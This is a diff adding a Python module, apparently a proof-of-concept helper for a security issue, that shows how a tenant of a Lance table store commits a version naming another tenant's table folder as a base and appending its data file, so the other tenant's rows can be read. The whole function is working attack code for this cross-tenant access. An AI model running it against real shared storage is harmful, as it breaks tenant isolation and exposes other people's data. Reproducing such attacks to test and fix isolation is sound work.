@@ -1,0 +1,28 @@
+"""What a hostile tenant writes into its own table to reach another's bytes (issue 68): a
+version naming the other table's folder as a second base, with one of its data files
+appended. Written with pylance alone, as a client holding keys for its own table writes."""
+
+from __future__ import annotations
+
+import lance
+from lance import LanceDataset, LanceOperation
+from lance.fragment import DataFile, FragmentMetadata
+
+
+def append_foreign_rows(own: str, foreign: str, own_options: dict[str, str] | None = None,
+                        foreign_options: dict[str, str] | None = None) -> int:
+    """Commit to the table at `own` a version that adds the table folder `foreign` as a base
+    and appends its first data file; the version committed. `foreign_options` read the
+    foreign table's manifest (the tenant is assumed to know a file's name)."""
+    stolen = lance.dataset(foreign, storage_options=foreign_options).get_fragments()[0].metadata
+    dataset = lance.dataset(own, storage_options=own_options)
+    dataset = dataset.add_bases([lance.DatasetBasePath(foreign, name="other",
+                                                       is_dataset_root=True)])
+    base_id = max(dataset.base_paths())
+    files = [DataFile(file.path, file.fields, file.column_indices, file.file_major_version,
+                      file.file_minor_version, file.file_size_bytes, base_id=base_id)
+             for file in stolen.files]
+    fragment = FragmentMetadata(id=0, files=files, physical_rows=stolen.physical_rows)
+    committed = LanceDataset.commit(own, LanceOperation.Append([fragment]),
+                                    read_version=dataset.version, storage_options=own_options)
+    return committed.version
